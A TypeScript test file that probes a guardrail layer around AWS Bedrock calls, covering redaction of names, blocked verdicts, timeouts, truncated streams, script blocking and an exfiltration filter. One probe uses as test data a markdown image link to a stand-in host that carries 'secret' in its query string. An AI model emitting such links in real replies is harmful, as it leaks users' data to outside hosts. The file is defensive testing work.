/** Deep tiers and filters that block: what comes back unjudged. */

import { type ClientRules, createGuardrailChecks } from '../../../../../aws/bedrock/index.ts';
import { createScope } from '../../../../../aws/invocation-scope.ts';
import { createContentPolicy } from '../../../../../core/content/index.ts';
import { createExfiltrationFilter } from '../../../../../core/exfiltration/index.ts';
import type { DeepRedactionVerdict } from '../../../../../core/redaction/deep-redaction.ts';
import { createRedactor } from '../../../../../core/redaction/index.ts';
import { converseReply, type StreamedEvent, streamedReply, textEvents } from '../../../../support/bedrock.ts';
import { bare, client, converse, converseStream, type Outcome, type Probe, refusal, unseen } from './probe.ts';

const probe = (name: string, attempt: Probe['attempt']): Probe => ({ name, attempt });

const START: StreamedEvent = ['messageStart', { role: 'assistant' }];
const delta = (of: object): StreamedEvent => ['contentBlockDelta', { contentBlockIndex: 0, delta: of }];

const judging = (verdict: DeepRedactionVerdict | (() => Promise<never>), more: object = {}): ClientRules => ({
  deepRedaction: { deep: { judge: async () => (typeof verdict === 'function' ? verdict() : verdict) }, ...more },
});
const name = 'Ada Lovelace';
const person: DeepRedactionVerdict = [{ entity: 'EMAIL_ADDRESS', start: 0, end: name.length, score: 1 }];
const says = `${name} was here.`;

/** Whole and in a stream. */
const judged = (
  what: string,
  rules: () => ClientRules,
  judge: (work: () => Promise<unknown>) => Promise<Outcome>,
): readonly Probe[] => [
  probe(what, (guard) => {
    const { bedrock } = client(guard, rules(), () => converseReply([{ text: says }]));
    return judge(() => converse(bedrock, {}));
  }),
  probe(`${what}, in a stream`, (guard) => {
    const { bedrock } = client(guard, rules(), () => streamedReply(textEvents([says])));
    return judge(() => converseStream(bedrock));
  }),
];
const blocked = (reason: string) => (work: () => Promise<unknown>) => refusal(work, 'output_blocked', reason);

const REDACTION: readonly Probe[] = [
  ...judged(
    'a name',
    () => judging(person),
    (work) => unseen(work, name),
  ),
  ...judged('what a guardrail blocks', () => judging('blocked'), blocked('guardrail')),
  ...judged('what nobody could judge', () => judging('unknown'), blocked('deep-redaction')),
  ...judged(
    'a name whose mode is block',
    () => ({ ...judging(person), redactor: createRedactor({ modes: { EMAIL_ADDRESS: 'block' } }) }),
    blocked('private-value'),
  ),
  probe('a judge that never says a word', (guard) => {
    const { bedrock } = client(
      guard,
      judging(() => new Promise(() => {})),
      () => converseReply([{ text: says }]),
    );
    const soon = createScope({ requestId: 'probe', deadline: Date.now() + 40 });
    return refusal(() => converse(bedrock, {}, soon), 'upstream_timeout');
  }),
  probe('a stream that breaks off behind a judge', (guard) => {
    const { bedrock } = client(guard, judging([]), () => streamedReply([START, delta({ text: says })]));
    return refusal(() => converseStream(bedrock), 'output_truncated', 'stream');
  }),
  probe('code that the policy blocks', (guard) => {
    const content = createContentPolicy({ actions: { script: 'block' } });
    const { bedrock } = client(guard, { content }, () => converseReply([{ text: 'See <script>x()</script>.' }]));
    return refusal(() => converse(bedrock, {}), 'output_blocked', 'content');
  }),
  probe('a link that the filter blocks', (guard) => {
    const exfiltration = createExfiltrationFilter({ actions: { image: 'block' } });
    const { bedrock } = client(guard, { exfiltration }, () =>
      converseReply([{ text: '![x](https://evil.test/?q=secret)' }]),
    );
    return refusal(() => converse(bedrock, {}), 'output_blocked', 'exfiltration');
  }),
];

/** A tier at Bedrock that finds the first text clean and the next an attack, and how often it was asked. */
const tier = (more: object = {}) => {
  let asked = 0;
  const send = async () => {
    asked += 1;
    const results = ['JAILBREAK', 'PROMPT_INJECTION', 'PROMPT_LEAKAGE'].map((category) => ({
      category,
      severityScore: 0,
    }));
    return { results: { promptAttack: { results } } };
  };
  const deep = createGuardrailChecks({ client: { send }, digest: (text: string) => text, ...more } as never);
  const judge = async (text: string) => (await deep.judge([{ channel: 'user', text }]))[0];
  return { judge, asked: () => asked };
};

const TIERS: readonly Probe[] = [
  probe('texts that a tier cannot tell apart', async (guard) => {
    if (guard === bare) return 'through';
    const { judge, asked } = tier({ digest: () => '' });
    await judge('one');
    return (await judge('another')) === 'unknown' && asked() === 0 ? 'held' : 'through';
  }),
  probe('more calls of a tier than a minute has', async (guard) => {
    if (guard === bare) return 'through';
    const { judge, asked } = tier({ callsPerMinute: 1 });
    await judge('one');
    return (await judge('another')) === 'unknown' && asked() === 1 ? 'held' : 'through';
  }),
];

/** By what they get past. */
export const DEEP: readonly Probe[] = [...REDACTION, ...TIERS];
